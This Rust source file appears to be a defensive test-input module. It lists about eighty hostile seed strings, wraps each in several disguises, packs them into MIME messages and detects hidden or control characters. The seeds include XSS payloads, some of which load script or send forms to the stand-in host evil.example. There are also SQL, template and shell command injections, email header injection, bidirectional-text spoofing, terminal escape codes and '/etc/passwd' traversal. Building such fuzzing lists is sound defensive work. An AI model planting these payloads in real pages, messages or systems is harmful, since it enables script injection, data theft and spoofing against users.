//! What a stranger may write who wants more than to be read: script, markup, template syntax, forged
//! header fields, marks that turn text around, control codes of terminals. One list, for every place
//! that shows a stranger's words: pages, letters, logs, the terminal.

use data_encoding::BASE64;

/// Octets that one encoded word carries: 75 characters are its most (RFC 2047 §2).
const WORD: usize = 45;

/// What is tried, each in several disguises.
const SEEDS: [&str; 82] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\">",
    "<svg><style>{font:url(//evil.example/x)}</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=form>",
    "<button form=x formaction=//evil.example>Undo</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
    "<textarea><!--</textarea><img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<%= 7*7 %>",
    "{{ 7*7 }}",
    "{{ site.url }}{{ form }}",
    "{% include \"base.html\" %}",
    "{% raw %}{{ x }}{% endraw %}{# x #}",
    "{% for i in range(end=99999999) %}x{% endfor %}",
    "${7*7}#{7*7}",
    "{name}{address}{count}{{}}",
    "%s%s%s%n%x",
    "$(id)`id`;id|id&id",
    "' OR 1=1 --",
    "'; DROP TABLE message; --",
    "\"onmouseover=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onload=alert(1) `",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "x\r\nBcc: victim@evil.example",
    "x\nSubject: forged",
    "x\rX-Forged: yes",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "x\u{2028}Bcc: victim@evil.example\u{2029}y",
    "x\u{85}Bcc: victim@evil.example",
    "invoice\u{202e}gpj.exe",
    "\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
    "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{180e}",
    "hidden\u{e0041}\u{e0042}\u{e0043}tags",
    "a\0b\u{1}\u{7f}\u{80}\u{9f}",
    "\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{9b}31m\u{90}q\u{9c}",
    "back\u{8}\u{8}\u{8}\u{8}over",
    "../../../../etc/passwd",
    "a\tb\u{b}c\u{c}d",
    "Z\u{335}\u{321}a\u{32f}\u{33a}l\u{35d}g\u{310}o\u{34e}",
];

/// Every seed in every disguise: some hundreds, each different.
pub fn strings() -> Vec<String> {
    let mut all: Vec<String> = SEEDS.iter().flat_map(|seed| disguises(seed)).collect();
    all.push("A".repeat(5_000));
    all.push("<".repeat(3_000));
    all.push("{{".repeat(1_000));
    all.sort_unstable();
    all.dedup();
    all
}

/// A seed bare, behind what could end the place where it stands, in other cases, and inside words.
fn disguises(seed: &str) -> [String; 6] {
    [
        seed.to_owned(),
        format!("\">{seed}"),
        format!("'>{seed}<'"),
        format!("</pre></title></textarea></script>{seed}"),
        seed.to_uppercase(),
        format!("Dear Bob, {seed} yours, Ann"),
    ]
}

/// The text as encoded words (RFC 2047): it reaches the reader whatever it holds, CR and LF too.
pub fn encoded(text: &str) -> String {
    let mut words = Vec::new();
    let mut word = String::new();
    for c in text.chars() {
        if word.len() + c.len_utf8() > WORD {
            words.push(std::mem::take(&mut word));
        }
        word.push(c);
    }
    words.push(word);
    let one = |word: &String| format!("=?utf-8?b?{}?=", BASE64.encode(word.as_bytes()));
    let encoded: Vec<_> = words.iter().map(one).collect();
    encoded.join("\r\n ")
}

/// A whole message that has the text in its From, its Subject, its body and the name of a file.
pub fn message(text: &str, body: &str) -> Vec<u8> {
    let shown = encoded(text);
    let name: String = text.bytes().map(|octet| format!("%{octet:02X}")).collect();
    let words = BASE64.encode(text.as_bytes());
    let lines: Vec<_> = words
        .as_bytes()
        .chunks(76)
        .map(String::from_utf8_lossy)
        .collect();
    let words = lines.join("\r\n");
    format!(
        "From: {shown}\r\n <ann@ours.example>\r\nTo: bob@there.example\r\nSubject: {shown}\r\n\
         X-Raw: {}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
         Content-Type: text/{body}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n\
         {words}\r\n--b\r\n\
         Content-Type: application/octet-stream; name*=utf-8''{name}\r\n\
         Content-Disposition: attachment; filename*=utf-8''{name}\r\n\r\nx\r\n--b--\r\n",
        text.replace(['\r', '\n', '\0'], " ")
    )
    .into_bytes()
}

/// Why a shown text is more than text, if it is: a character that hides, turns text around or means
/// something to a terminal. LF is for the caller's own lines.
pub fn hidden(text: &str) -> Option<char> {
    let hides = |c: &char| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
                | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().find(hides)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_hundreds_and_they_are_different() {
        let all = strings();
        assert!(all.len() > 400, "{}", all.len());
        assert!(all.windows(2).all(|pair| pair[0] != pair[1]));
    }

    #[test]
    fn what_hides_is_found() {
        assert_eq!(hidden("plain äöü 你好\nmore"), None);
        for text in ["a\rb", "a\u{202e}b", "a\u{1b}[m", "a\0", "\u{e0041}"] {
            assert!(hidden(text).is_some(), "{text:?}");
        }
    }
}
